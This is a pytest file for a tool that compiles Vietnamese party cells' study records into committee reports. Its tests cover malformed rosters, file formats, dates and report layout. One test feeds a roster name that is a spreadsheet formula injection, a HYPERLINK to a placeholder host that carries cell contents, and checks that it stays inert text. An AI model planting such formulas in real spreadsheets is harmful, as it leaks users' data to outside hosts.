"""Records as cell secretaries really return them, and the report as the committee reads it
(the quality pass of 06/12/2026): each test fails on the code before its fix."""
from __future__ import annotations

import re
import subprocess
from pathlib import Path

import openpyxl
import pytest

from records_helpers import fill, make_records, run, standard_round, summary


def test_a_sheet_added_in_front_of_the_list(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    """A secretary adds a notes sheet (and an empty one) before "Danh sách": the list is still read."""
    content, records = make_records(tmp_path)
    assert run("records", "template", "nq-57", "--content", str(content)) == 0
    workbook = records / "study" / "nq-57" / "cb-a2.xlsx"
    fill(workbook, {"Nguyễn F": {"Tham dự": "có mặt", "Điểm": 9}, "Trần G": {"Tham dự": "có mặt", "Điểm": 7},
                    "Phạm H": {"Tham dự": "vắng có lý do"}})
    book = openpyxl.load_workbook(workbook)
    book.create_sheet("Sheet1", 0)
    book.create_sheet("Ghi chú của chi bộ", 0)["A1"] = "Học tập ngày 14/3, đồng chí Phạm H đi công tác."
    book.save(workbook)
    capsys.readouterr()
    assert run("report", "nq-57", "--content", str(content), "--reports", str(tmp_path / "reports")) == 0
    assert "error" not in capsys.readouterr().out
    cell = summary(tmp_path / "reports", "nq-57")["unit"]["units"][0]["units"][1]
    assert cell["id"] == "cb-a2"
    assert (cell["attended"], cell["excused"], cell["essays_submitted"]) == (2, 1, 2)
    assert cell["grades"] == {"tot": 1, "kha": 1, "trung_binh": 0, "yeu": 0}


def _words(pdf: Path) -> list[tuple[str, float, float]]:
    """(word, left, right) of every word of the PDF, in points, from pdftotext -bbox."""
    html = subprocess.run(["pdftotext", "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    return [(html_text, float(x0), float(x1)) for x0, x1, html_text
            in re.findall(r'<word xMin="([\d.]+)" yMin="[\d.]+" xMax="([\d.]+)" yMax="[\d.]+">([^<]*)</word>', html)]


def test_roll_call_birth_dates_stay_in_their_column(tmp_path: Path) -> None:
    """A roster giving full dates of birth: the roll-call sheet's "Năm sinh" stays left of "Chức vụ"."""
    content, records = make_records(tmp_path)
    (records / "members" / "cb-a2.csv").write_text(
        "Họ và tên,Năm sinh,Chức vụ\nNguyễn F,23/11/1964,Bí thư chi bộ\nTrần G,02/05/1990,\nPhạm H,1980,\n",
        encoding="utf-8")
    assert run("report", "nq-57", "--content", str(content), "--reports", str(tmp_path / "reports")) == 0
    words = _words(tmp_path / "reports" / "nq-57" / "diem-danh" / "cb-a2.pdf")
    post_column = next(left for word, left, _ in words if word == "Chức")
    births = [(word, right) for word, _, right in words if "1964" in word or "1990" in word]
    assert len(births) == 2
    assert all(right < post_column for _, right in births), births


REPORT_SETTINGS = """\
report:
  committee: Đảng ủy xã Thử
  signer_title: Bí thư
  signer: Hờ A Chinh
  recipients:
    - "- Ban Tuyên giáo và Dân vận Tỉnh ủy (để báo cáo),"
    - Các chi bộ trực thuộc;
    - Lưu Văn phòng Đảng ủy.
"""


def _signature_block(docx_path: Path) -> tuple[list[str], list[str]]:
    import docx
    left, right = docx.Document(str(docx_path)).tables[-1].rows[0].cells
    return [p.text for p in left.paragraphs], [p.text for p in right.paragraphs if p.text]


def test_recipients_as_the_office_types_them(tmp_path: Path) -> None:
    """Recipients copied from a real document (dashes, commas, their own "Lưu …" line): no line twice,
    no ",," and one "Lưu"; the signer's post in capitals under T/M BAN THƯỜNG VỤ."""
    content, records = make_records(tmp_path)
    units = records / "units.yaml"
    units.write_text(units.read_text(encoding="utf-8") + REPORT_SETTINGS, encoding="utf-8")
    assert run("report", "nq-57", "--content", str(content), "--reports", str(tmp_path / "reports")) == 0
    left, right = _signature_block(tmp_path / "reports" / "nq-57" / "bao-cao-nq-57.docx")
    assert left == ["Nơi nhận:", "- Ban Tuyên giáo và Dân vận Tỉnh ủy (để báo cáo),", "- Các chi bộ trực thuộc,",
                    "- Lưu Văn phòng Đảng ủy."]
    assert right == ["T/M BAN THƯỜNG VỤ", "BÍ THƯ", "Hờ A Chinh"]


def test_recipients_by_default_end_with_the_office_copy(tmp_path: Path) -> None:
    content, records = make_records(tmp_path)
    assert run("report", "nq-57", "--content", str(content), "--reports", str(tmp_path / "reports")) == 0
    left, _ = _signature_block(tmp_path / "reports" / "nq-57" / "bao-cao-nq-57.docx")
    assert left[0] == "Nơi nhận:" and left[-1] == "- Lưu Văn phòng." and left.count("- Lưu Văn phòng.") == 1


def test_a_name_twice_in_a_csv_names_the_line(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    content, records = make_records(tmp_path)
    with (records / "members" / "cb-b2.csv").open("a", encoding="utf-8") as roster:
        roster.write("Ma Văn L,1970\n")
    assert run("check", "--fast", "--content", str(content)) == 1
    assert "members/cb-b2.csv:4:1: error: 'Ma Văn L' đã có ở dòng 2: mỗi người chỉ ghi một dòng." \
        in capsys.readouterr().out


def test_results_saved_as_xls_or_ods_are_an_error(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    """A secretary on an old Excel saves .xls, one on LibreOffice .ods: the cell did study, so the file
    must not be skipped with a warning (the report would list the cell as not having studied)."""
    content, records = make_records(tmp_path)
    assert run("records", "template", "nq-57", "--content", str(content)) == 0
    study = records / "study" / "nq-57"
    fill(study / "cb-b2.xlsx", {"Ma Văn L": {"Tham dự": "có mặt", "Điểm": 8}})
    (study / "cb-b2.xlsx").rename(study / "cb-b2.xls")
    (study / "cb-b1.xlsx").rename(study / "cb-b1.ods")
    (records / "members" / "cb-a2.csv").rename(records / "members" / "cb-a2.xls")
    capsys.readouterr()
    assert run("check", "--fast", "--content", str(content)) == 1
    out = capsys.readouterr().out
    for name, suffix in (("study/nq-57/cb-b2.xls", ".xls"), ("study/nq-57/cb-b1.ods", ".ods"),
                         ("members/cb-a2.xls", ".xls")):
        assert f"{name}: error: Không đọc được bảng tính dạng {suffix}" in out, name
    assert 'Lưu thành… kiểu "Sổ làm việc Excel (.xlsx)"' in out
    assert run("report", "nq-57", "--content", str(content), "--reports", str(tmp_path / "reports")) == 1
    assert not (tmp_path / "reports" / "nq-57").exists()


def test_a_member_on_two_cells_rosters_is_named(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    """Moved to another cell but left on the old roster: same name, same year in two cells is a
    warning with the place (the commune's member count would count them twice); a namesake born
    another year is not."""
    content, records = make_records(tmp_path)
    with (records / "members" / "cb-b2.csv").open("a", encoding="utf-8") as roster:
        roster.write("Nguyễn  F,14/03/1964\nLò Văn A,1991\n")
    assert run("check", "--fast", "--content", str(content)) == 0
    out = capsys.readouterr().out
    assert ("members/cb-b2.csv:4:1: warning: 'Nguyễn F' (sinh năm 1964) cũng có trong danh sách chi bộ cb-a2: "
            "người này được tính hai lần trong số đảng viên.") in out
    assert "'Lò Văn A' (sinh năm" not in out


def test_results_without_a_date_of_study_are_named(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    """The secretary fills the list but not "Thông tin" (or sends a CSV without its YAML): the round
    then counts at the issue date (22/12/2024), so `report --year 2025` leaves it out; say so."""
    content, records = make_records(tmp_path)
    assert run("records", "template", "nq-57", "--content", str(content), "--unit", "xa-a") == 0
    study = records / "study" / "nq-57"
    fill(study / "cb-a2.xlsx", {"Nguyễn F": {"Tham dự": "có mặt", "Điểm": 9}})
    fill(study / "cb-a1.xlsx", {"Lò Văn A": {"Tham dự": "có mặt", "Điểm": 8}}, {"Ngày học": "14/03/2025"})
    (study / "cb-b1.csv").write_text("Họ và tên,Tham dự,Điểm\nHoàng I,có mặt,8\nLê K,có mặt,7\n", encoding="utf-8")
    capsys.readouterr()
    assert run("check", "--fast", "--content", str(content)) == 0
    out = capsys.readouterr().out
    assert "study/nq-57/cb-a2.xlsx: Thông tin!B1: warning: Chưa ghi Ngày học" in out
    assert "study/nq-57/cb-b1.csv: warning: Chưa ghi Ngày học" in out
    assert "cb-a1.xlsx: Thông tin!B1: warning" not in out


def test_a_tab_separated_csv(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    """LibreOffice's CSV export offers Tab as separator, and Google Sheets saves TSV: read it like ';'."""
    content, records = make_records(tmp_path)
    study = records / "study" / "nq-57"
    study.mkdir(parents=True)
    (study / "cb-b1.csv").write_text("Họ và tên\tTham dự\tĐiểm\nHoàng I\tcó mặt\t8,5\nLê K\tvắng có lý do\t\n",
                                     encoding="utf-8")
    assert run("report", "nq-57", "--content", str(content), "--reports", str(tmp_path / "reports")) == 0
    assert "error" not in capsys.readouterr().out
    cell = summary(tmp_path / "reports", "nq-57")["unit"]["units"][1]["units"][0]
    assert cell["id"] == "cb-b1"
    assert (cell["attended"], cell["excused"], cell["grades"]["kha"]) == (1, 1, 1)


# ECMA-376 CT_TblPr: a sequence, so Word wants the children in this order.
TBLPR_ORDER = ("tblStyle", "tblpPr", "tblOverlap", "bidiVisual", "tblStyleRowBandSize", "tblStyleColBandSize",
               "tblW", "jc", "tblCellSpacing", "tblInd", "tblBorders", "shd", "tblLayout", "tblCellMar", "tblLook",
               "tblCaption", "tblDescription")


def test_report_tables_keep_the_schema_order(tmp_path: Path) -> None:
    import zipfile
    from lxml import etree
    content, _ = make_records(tmp_path)
    assert run("report", "nq-57", "--content", str(content), "--reports", str(tmp_path / "reports")) == 0
    with zipfile.ZipFile(tmp_path / "reports" / "nq-57" / "bao-cao-nq-57.docx") as docx:
        root = etree.fromstring(docx.read("word/document.xml"))
    namespace = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    orders = [[child.tag.replace(namespace, "") for child in properties]
              for properties in root.iter(f"{namespace}tblPr")]
    assert any("tblCellMar" in order for order in orders)
    for order in orders:
        assert order == sorted(order, key=TBLPR_ORDER.index), order


def test_a_total_line_under_a_roster_is_not_a_member(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    """Rosters typed in Excel often end with 'Tổng số: 3 đảng viên': it must not count as a member
    (a family name such as Tống stays a name)."""
    content, records = make_records(tmp_path)
    (records / "members" / "cb-b2.csv").write_text(
        "Họ và tên,Năm sinh\nMa Văn L,1970\nTống Văn Cộng,1972\nTổng số: 2 đảng viên,\n", encoding="utf-8")
    assert run("check", "--fast", "--content", str(content)) == 1
    out = capsys.readouterr().out
    assert "members/cb-b2.csv:4:1: error: 'Tổng số: 2 đảng viên' là dòng tổng cộng, không phải một đảng viên" in out
    assert "Tống Văn Cộng' là dòng" not in out and "Chưa ghi Năm sinh" not in out


def test_roll_call_shows_the_place_it_knows(tmp_path: Path) -> None:
    """Printed again once results are in, the roll call has the date and the place the cell recorded
    (before, the date was filled in and the place left as dots)."""
    content, _ = standard_round(tmp_path)
    assert run("report", "nq-57", "--content", str(content), "--reports", str(tmp_path / "reports")) == 0
    text = subprocess.run(["pdftotext", "-layout", str(tmp_path / "reports" / "nq-57" / "diem-danh" / "cb-b1.pdf"),
                           "-"], capture_output=True, text=True, check=True).stdout
    assert "Ngày học: 01/04/2025" in text and "Địa điểm: Hội trường xã" in text


def test_a_date_of_study_before_the_issue_date_is_named(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    """Studied in January, typed last year's number: nq-57 was issued on 22/12/2024, so a Ngày học of
    10/01/2024 is a typo that would put the round in 2024's report."""
    content, records = make_records(tmp_path)
    assert run("records", "template", "nq-57", "--content", str(content), "--unit", "xa-a") == 0
    study = records / "study" / "nq-57"
    fill(study / "cb-a1.xlsx", {"Lò Văn A": {"Tham dự": "có mặt", "Điểm": 8}}, {"Ngày học": "10/01/2024"})
    fill(study / "cb-a2.xlsx", {"Nguyễn F": {"Tham dự": "có mặt", "Điểm": 9}}, {"Ngày học": "10/01/2025"})
    capsys.readouterr()
    assert run("check", "--fast", "--content", str(content)) == 0
    out = capsys.readouterr().out
    assert ("study/nq-57/cb-a1.xlsx: Thông tin!B1: warning: Ngày học 10/01/2024 trước ngày ban hành văn bản "
            "(22/12/2024)") in out
    assert "cb-a2.xlsx: Thông tin!B1: warning" not in out
    assert run("report", "nq-57", "--content", str(content), "--reports", str(tmp_path / "reports")) == 0
    assert "Ngày học 10/01/2024 trước ngày ban hành" in capsys.readouterr().err


def test_report_date_written_as_36_hd_writes_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """'ngày 03 tháng 02 năm 2025', not 'ngày 3 tháng 2': a day under 10 and the months 1–2 take a 0."""
    import docx
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1738540800")           # 03/02/2025
    content, records = make_records(tmp_path)
    units = records / "units.yaml"
    units.write_text(units.read_text(encoding="utf-8") + "report:\n  place: Tam Đường\n", encoding="utf-8")
    assert run("report", "nq-57", "--content", str(content), "--reports", str(tmp_path / "reports")) == 0
    header = docx.Document(str(tmp_path / "reports" / "nq-57" / "bao-cao-nq-57.docx")).tables[0].rows[0].cells[1]
    assert [p.text for p in header.paragraphs][1] == "Tam Đường, ngày 03 tháng 02 năm 2025"


def test_what_windows_leaves_in_the_folders_is_not_a_warning(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    content, records = make_records(tmp_path)
    (records / "members" / "Thumbs.db").write_bytes(b"\xd0\xcf\x11\xe0")
    (records / "members" / "desktop.ini").write_text("[.ShellClassInfo]\n", encoding="utf-8")
    (records / "members" / "ghi-chu.txt").write_text("chép từ máy xã\n", encoding="utf-8")
    assert run("check", "--fast", "--content", str(content)) == 0
    out = capsys.readouterr().out
    assert "Thumbs.db" not in out and "desktop.ini" not in out
    assert "members/ghi-chu.txt: warning: Tệp này không thuộc mẫu sổ sách" in out


TWO_COMMUNES = """\
name: Đảng bộ huyện Than Uyên
units:
  - id: xa-mk
    name: Đảng bộ xã Mường Kim
    units:
      - {id: mk-1, name: Chi bộ thôn 1}
      - {id: mk-2, name: Chi bộ thôn 2}
  - id: xa-tg
    name: Đảng bộ xã Tà Gia
    units:
      - {id: tg-1, name: Chi bộ thôn 1}
      - {id: tg-2, name: Chi bộ thôn 2}
"""


def test_cells_of_the_same_name_in_two_communes_are_told_apart(tmp_path: Path) -> None:
    """Every commune has its 'Chi bộ thôn 1': outside its commune's own table the report says which."""
    import docx
    content, records = make_records(tmp_path)
    (records / "units.yaml").write_text(TWO_COMMUNES, encoding="utf-8")
    for roster in (records / "members").iterdir():
        roster.unlink()
    for cell in ("mk-1", "mk-2", "tg-1", "tg-2"):
        (records / "members" / f"{cell}.csv").write_text(f"Họ và tên,Năm sinh\nNgười {cell},1980\n", encoding="utf-8")
    study = records / "study" / "nq-57"
    study.mkdir(parents=True)
    for cell in ("mk-2", "tg-2"):
        (study / f"{cell}.csv").write_text(f"Họ và tên,Tham dự,Điểm\nNgười {cell},vắng không lý do,\n",
                                           encoding="utf-8")
    assert run("report", "nq-57", "--content", str(content), "--reports", str(tmp_path / "reports")) == 0
    folder = tmp_path / "reports" / "nq-57"
    text = "\n".join(p.text for p in docx.Document(str(folder / "bao-cao-nq-57.docx")).paragraphs)
    assert ("Còn 2 đơn vị chưa tổ chức học tập: Chi bộ thôn 1 (Đảng bộ xã Mường Kim), "
            "Chi bộ thôn 1 (Đảng bộ xã Tà Gia).") in text
    reminders = openpyxl.load_workbook(folder / "so-lieu-nq-57.xlsx")["Nhắc nhở"]
    assert {row[0].value for row in reminders.iter_rows(min_row=2)} == {
        "Chi bộ thôn 2 (Đảng bộ xã Mường Kim)", "Chi bộ thôn 2 (Đảng bộ xã Tà Gia)"}
    roll = subprocess.run(["pdftotext", "-layout", str(folder / "diem-danh" / "tg-1.pdf"), "-"],
                          capture_output=True, text=True, check=True).stdout
    assert "ĐẢNG BỘ XÃ TÀ GIA" in roll.split("DANH SÁCH ĐIỂM DANH")[0]


def test_no_year_of_birth_hint_is_true_in_a_rural_cell(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    """cb-a1 is rural: a member there without a post need not write, year of birth or not; the hint
    must not say they now count as required to write."""
    content, records = make_records(tmp_path)
    with (records / "members" / "cb-a1.csv").open("a", encoding="utf-8") as roster:
        roster.write("Thào A Chứ,,,\n")
    assert run("check", "--fast", "--content", str(content)) == 0
    out = capsys.readouterr().out
    assert "members/cb-a1.csv:7:2: warning: Chưa ghi Năm sinh của 'Thào A Chứ'" in out
    assert "phải viết thu hoạch" not in out and "coi là chưa quá 60 tuổi" in out


def test_year_total_row_reads_like_its_rows(tmp_path: Path) -> None:
    """The year's table: rows say '2/4' cells and '3/9' members; the total said '' and a bare '5'."""
    import docx
    content, records = standard_round(tmp_path)
    assert run("report", "--year", "2025", "--content", str(content), "--reports", str(tmp_path / "reports")) == 0
    table = docx.Document(str(tmp_path / "reports" / "2025" / "bao-cao-nam-2025.docx")).tables[1]
    row, total = [c.text for c in table.rows[1].cells], [c.text for c in table.rows[-1].cells]
    assert (row[2], row[3]) == ("3/4", "10/12")
    assert (total[0], total[2], total[3]) == ("Cộng", "3/4", "10/12")


def test_templates_not_filled_in_yet_are_cells_that_have_not_reported(tmp_path: Path) -> None:
    """`records template` writes into records/study/<slug>/; a report made before the cells send their
    files back said "4/4 chi bộ đã tổ chức học tập", 0% attendance, and no unit left to study."""
    import docx
    content, records = make_records(tmp_path)
    assert run("records", "template", "nq-57", "--content", str(content)) == 0
    fill(records / "study" / "nq-57" / "cb-a2.xlsx", {"Nguyễn F": {"Tham dự": "có mặt", "Điểm": 9}},
         {"Ngày học": "14/03/2025"})
    assert run("report", "nq-57", "--content", str(content), "--reports", str(tmp_path / "reports")) == 0
    top = summary(tmp_path / "reports", "nq-57")["unit"]
    assert (top["cells_reported"], top["not_reported"]) == (1, ["cb-a1", "cb-b1", "cb-b2"])
    assert (top["members_reported"], top["attended"]) == (3, 1)
    text = "\n".join(p.text for p in docx.Document(str(tmp_path / "reports" / "nq-57" / "bao-cao-nq-57.docx")).paragraphs)
    assert "Có 1/4 chi bộ đã tổ chức học tập" in text and "Còn 3 đơn vị chưa tổ chức học tập" in text


def test_a_results_file_saved_under_another_name_says_which_cell(tmp_path: Path, capsys: pytest.CaptureFixture
                                                                  ) -> None:
    """The secretary sends back "Ket qua hoc tap NQ57.xlsx": the template's "Thông tin" sheet names its
    cell, so the message says which file name to give it."""
    content, records = make_records(tmp_path)
    assert run("records", "template", "nq-57", "--content", str(content), "--unit", "cb-a2") == 0
    study = records / "study" / "nq-57"
    fill(study / "cb-a2.xlsx", {"Nguyễn F": {"Tham dự": "có mặt", "Điểm": 9}})
    (study / "cb-a2.xlsx").rename(study / "Ket qua hoc tap NQ57.xlsx")
    capsys.readouterr()
    assert run("check", "--fast", "--content", str(content)) == 1
    out = capsys.readouterr().out
    assert "study/nq-57/Ket qua hoc tap NQ57.xlsx: error: 'Ket qua hoc tap NQ57' không phải một chi bộ" in out
    assert "(gần nhất: cb-a2)" in out


def test_names_stay_text_in_the_workbooks_we_write(tmp_path: Path) -> None:
    """A roster line '=HYPERLINK(…)' must not become a formula in the template sent to the cell nor in
    the report's workbook; an '&' in the cell's name must print (Excel reads a lone '&' as a code)."""
    import zipfile
    from lxml import etree
    content, records = make_records(tmp_path)
    units = records / "units.yaml"
    units.write_text(units.read_text(encoding="utf-8").replace("Chi bộ B2", "Chi bộ Trường Tiểu học & THCS"),
                     encoding="utf-8")
    injected = '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")'
    (records / "members" / "cb-b2.csv").write_text(
        'Họ và tên,Năm sinh\n"' + injected.replace('"', '""') + '",1970\nMa Thị M,1972\n', encoding="utf-8")
    assert run("records", "template", "nq-57", "--content", str(content), "--unit", "cb-b2") == 0
    template = records / "study" / "nq-57" / "cb-b2.xlsx"
    sheet = openpyxl.load_workbook(template)["Danh sách"]
    assert (sheet["B2"].value, sheet["B2"].data_type) == (injected, "s")
    with zipfile.ZipFile(template) as book:
        header = etree.fromstring(book.read("xl/worksheets/sheet1.xml")).findtext(
            ".//{http://schemas.openxmlformats.org/spreadsheetml/2006/main}oddHeader")
    assert "Tiểu học && THCS" in header
    fill(template, {injected: {"Tham dự": "vắng không lý do"}, "Ma Thị M": {"Tham dự": "có mặt", "Điểm": 8}})
    assert run("report", "nq-57", "--content", str(content), "--reports", str(tmp_path / "reports")) == 0
    reminders = openpyxl.load_workbook(tmp_path / "reports" / "nq-57" / "so-lieu-nq-57.xlsx")["Nhắc nhở"]
    names = [(row[1].value, row[1].data_type) for row in reminders.iter_rows(min_row=2)]
    assert names and all(value == injected and kind == "s" for value, kind in names), names


def test_none_written_as_khong_is_none(tmp_path: Path) -> None:
    """Secretaries fill every line: Miễn "Không", Chức vụ "Không" or "Đảng viên". That is no exemption
    and no leadership post, not an exemption for all (essays required fell to 0)."""
    content, records = make_records(tmp_path)
    (records / "members" / "cb-a2.csv").write_text(
        "Họ và tên,Năm sinh,Chức vụ,Miễn\nNguyễn F,1964,Bí thư,Không\nTrần G,1990,Không,không\n"
        "Phạm H,1980,-,Ốm dài ngày\n", encoding="utf-8")
    (records / "members" / "cb-a1.csv").write_text(                 # rural: a post makes writing required
        "Họ và tên,Năm sinh,Chức vụ,Miễn\nLò Văn A,1970,Đảng viên,\nTao Thị B,1985,Bí thư,\n",
        encoding="utf-8")
    assert run("records", "template", "nq-57", "--content", str(content), "--unit", "xa-a") == 0
    study = records / "study" / "nq-57"
    fill(study / "cb-a2.xlsx", {n: {"Tham dự": "có mặt"} for n in ("Nguyễn F", "Trần G", "Phạm H")},
         {"Ngày học": "14/03/2025"})
    fill(study / "cb-a1.xlsx", {n: {"Tham dự": "có mặt"} for n in ("Lò Văn A", "Tao Thị B")},
         {"Ngày học": "14/03/2025"})
    assert run("report", "nq-57", "--content", str(content), "--reports", str(tmp_path / "reports")) == 0
    commune = summary(tmp_path / "reports", "nq-57")["unit"]["units"][0]
    required = {cell["id"]: cell["essays_required"] for cell in commune["units"]}
    # cb-a1: Tao Thị B only ("Đảng viên" is no post); cb-a2: Trần G (F is over 60 on 14/03/2025, H exempt)
    assert required == {"cb-a1": 1, "cb-a2": 1}


def test_party_standing_in_chuc_vu_is_no_post(tmp_path: Path) -> None:
    """A rural cell writes the member's standing under Chức vụ ("Đảng viên dự bị", "ĐV"): no post, so
    no essay required; a real post after it ("Đảng viên, trưởng thôn") still is one."""
    content, records = make_records(tmp_path)
    (records / "members" / "cb-a1.csv").write_text(
        "Họ và tên,Năm sinh,Chức vụ,Miễn\nLò Văn A,1970,Đảng viên dự bị,\nLò Văn C,1975,ĐV,\n"
        "Lò Văn D,1980,Đảng viên chính thức,\nLò Thị E,1982,\"Đảng viên, trưởng thôn\",\n"
        "Tao Thị B,1985,Bí thư,\n", encoding="utf-8")
    assert run("records", "template", "nq-57", "--content", str(content), "--unit", "xa-a") == 0
    study = records / "study" / "nq-57"
    fill(study / "cb-a1.xlsx", {n: {"Tham dự": "có mặt"} for n in ("Lò Văn A", "Lò Văn C", "Lò Văn D", "Lò Thị E",
                                                                  "Tao Thị B")}, {"Ngày học": "14/03/2025"})
    assert run("report", "nq-57", "--content", str(content), "--reports", str(tmp_path / "reports")) == 0
    commune = summary(tmp_path / "reports", "nq-57")["unit"]["units"][0]
    assert {cell["id"]: cell["essays_required"] for cell in commune["units"]}["cb-a1"] == 2


def test_a_report_never_replaces_the_records_or_the_content(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    """A report replaces its folder whole: `--reports records/study` deleted every cell's results,
    `--reports content/resolutions` the resolution itself. Only a previous report is replaced."""
    content, records = standard_round(tmp_path)
    study = sorted(p.name for p in (records / "study" / "nq-57").iterdir())
    resolution = sorted(p.name for p in (content / "resolutions" / "nq-57").iterdir())
    for reports in (records / "study", content / "resolutions"):
        assert run("report", "nq-57", "--content", str(content), "--reports", str(reports)) == 2
        assert "không phải một báo cáo cũ" in capsys.readouterr().err
    assert sorted(p.name for p in (records / "study" / "nq-57").iterdir()) == study
    assert sorted(p.name for p in (content / "resolutions" / "nq-57").iterdir()) == resolution
    for _ in range(2):                                   # a previous report is replaced, as before
        assert run("report", "nq-57", "--content", str(content), "--reports", str(tmp_path / "reports")) == 0
